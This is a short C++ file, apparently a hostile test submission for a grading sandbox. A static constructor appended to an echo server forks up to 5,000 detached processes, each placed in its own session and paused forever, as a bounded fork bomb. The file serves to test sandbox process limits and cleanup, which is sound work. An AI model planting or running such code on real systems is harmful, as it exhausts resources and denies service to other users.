// Hostile lab 01 submission, part 2 of 2: appended to the reference echo
// server by check.sh. Every time the program starts, a child forks up to
// 5,000 processes, each in a session of its own (so that no process group
// holds them), each waiting forever. A fork bomb bounded by its own count:
// the sandbox's process limit must stop it first, the grader must still
// grade the echo, and nothing may be left when grading ends.
#include <csignal>
#include <unistd.h>

namespace {
struct ForkBomb {
    ForkBomb() {
        if (::fork() != 0) return;  // the server goes on serving
        for (int i = 0; i < 5000; ++i) {
            const pid_t child = ::fork();
            if (child < 0) break;   // the limit: stop there, and hold on
            if (child == 0) {
                ::setsid();
                for (;;) ::pause();
            }
        }
        ::setsid();
        for (;;) ::pause();
    }
} fork_bomb;
}  // namespace
